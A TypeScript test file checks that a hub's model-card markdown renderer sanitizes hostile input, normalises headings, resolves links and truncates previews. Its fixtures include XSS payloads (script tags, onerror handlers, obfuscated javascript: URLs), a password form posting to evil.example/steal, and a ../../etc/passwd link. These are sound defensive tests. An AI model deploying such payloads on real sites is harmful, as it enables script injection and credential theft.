import { describe, expect, test } from "vitest";
import { cardPreview, renderCard, repoRelativePath } from "./card-render";
import { markdownLinks } from "./repo-url";

const links = markdownLinks("model", "alice/demo", "main");

function html(markdown: string): HTMLDivElement {
  const div = document.createElement("div");
  div.append(renderCard(markdown, links));
  return div;
}

describe("renderCard: hostile cards render inert", () => {
  const HOSTILE = `# Title

<script>window.pwned = 1</script>
<img src="x.png" onerror="window.pwned = 2">
<a href="javascript:alert(1)">js link</a> <a href=" JaVaScRiPt:alert(1)">spaced</a>
<a href="jav&#x09;ascript:alert(1)">encoded tab</a>
<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="y">
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<div style="position:fixed;inset:0" onclick="alert(1)">overlay</div>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
[md js](javascript:alert(1))
<style>body{display:none}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
`;

  test("no script, handler, javascript: URL, frame, form, style or meta survives", () => {
    const root = html(HOSTILE);
    expect(root.querySelector("script, iframe, object, embed, form, button, style, meta, base, svg, math")).toBeNull();
    for (const element of root.querySelectorAll("*")) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith("on"), `${element.tagName} ${attribute.name}`).toBe(false);
        expect(attribute.name).not.toBe("style");
        expect(attribute.value.replace(/\s/g, "").toLowerCase()).not.toContain("javascript:");
      }
    }
    expect(root.querySelector("input")).toBeNull();
    expect(root.textContent).toContain("overlay");
    expect(root.textContent).toContain("js link");
  });

  test("a task list keeps its checkboxes, disabled", () => {
    const root = html("- [x] done\n- [ ] todo\n");
    const boxes = [...root.querySelectorAll("input")];
    expect(boxes).toHaveLength(2);
    for (const box of boxes) {
      expect(box.type).toBe("checkbox");
      expect(box.disabled).toBe(true);
    }
  });
});

describe("renderCard: markdown as the hub renders it", () => {
  test("front matter is cut, GFM tables are wrapped and scrollable", () => {
    const root = html("---\nlicense: mit\n---\n| a | b |\n|---|---|\n| 1 | 2 |\n");
    expect(root.textContent).not.toContain("license");
    expect(root.querySelector(".table-scroll > table td")?.textContent).toBe("1");
  });

  test("headings start at h2 and never skip a level", () => {
    const root = html("# One\n#### Four\n## Two\n###### Six\n");
    expect([...root.querySelectorAll("h1,h2,h3,h4,h5,h6")].map((h) => h.tagName)).toEqual(["H2", "H3", "H3", "H4"]);
  });

  test("relative links go to blob pages, relative images to resolve, outside ones untouched", () => {
    const root = html(
      "[cfg](./config.json) [up](../../etc/passwd) [site](/tasks) [web](https://example.com/x) [anchor](#usage)\n\n![plot](img/plot.png)",
    );
    const hrefs = [...root.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["/alice/demo/blob/main/config.json", null, "/tasks", "https://example.com/x", "#usage"]);
    expect(root.querySelector('a[href^="https"]')?.getAttribute("rel")).toContain("noopener");
    const image = root.querySelector("img");
    expect(image?.getAttribute("src")).toBe("/alice/demo/resolve/main/img/plot.png");
    expect(image?.getAttribute("loading")).toBe("lazy");
  });

  test("code fences are highlighted with the site's highlighter", () => {
    const root = html("```python\nimport os\n```\n");
    expect(root.querySelector("pre code .tok-keyword")?.textContent).toBe("import");
    expect(root.querySelector("pre code")?.textContent).toBe("import os\n");
  });

  test("a 1 MB card with a huge table renders its preview quickly", () => {
    const row = "| cell | another cell | <img src=x onerror=alert(1)> |\n";
    const card = `# Big\n\n| a | b | c |\n|---|---|---|\n${row.repeat(Math.ceil(1_000_000 / row.length))}`;
    const preview = cardPreview(card, 60_000);
    expect(preview.truncated).toBe(true);
    const started = performance.now();
    const root = html(preview.text);
    // jsdom is far slower than a browser (the e2e test times the real page): this bound catches a blow-up only.
    expect(performance.now() - started).toBeLessThan(15_000);
    expect(root.querySelectorAll("tr").length).toBeGreaterThan(500);
    expect(root.querySelector("img")?.getAttribute("onerror")).toBeNull();
    // The bound above is the test's limit, not Vitest's 5 s default (4-5 s in jsdom on a busy 2-core machine).
  }, 30_000);
});

describe("cardPreview", () => {
  test("cuts at a line end, before an open code fence", () => {
    const text = `intro\n\`\`\`\n${"code line\n".repeat(50)}\`\`\`\nafter\n`;
    const { text: head, truncated } = cardPreview(text, 100);
    expect(truncated).toBe(true);
    expect(head).toBe("intro\n");
    expect(cardPreview("short", 100)).toEqual({ text: "short", truncated: false });
  });
});

describe("repoRelativePath", () => {
  test.each([
    ["a/b.png", "a/b.png"],
    ["./a/./b.png", "a/b.png"],
    ["a/../b.png", "b.png"],
    ["../b.png", undefined],
    ["a%20b.md?x=1#y", "a b.md"],
    ["%E0%A4%A", undefined],
    ["", undefined],
  ])("%s → %s", (input, expected) => {
    expect(repoRelativePath(input)).toBe(expected);
  });
});

describe("renderCardInSteps", () => {
  test("gives the same fragment as renderCard, or nothing once cancelled", async () => {
    const { renderCardInSteps } = await import("./card-render");
    const card = "# Hi\n\n<script>x()</script>[a](b.md)\n";
    const stepped = await renderCardInSteps(card, links, () => false);
    const div = document.createElement("div");
    if (stepped) div.append(stepped);
    expect(div.innerHTML).toBe(html(card).innerHTML);
    expect(await renderCardInSteps(card, links, () => true)).toBeUndefined();
  });
});
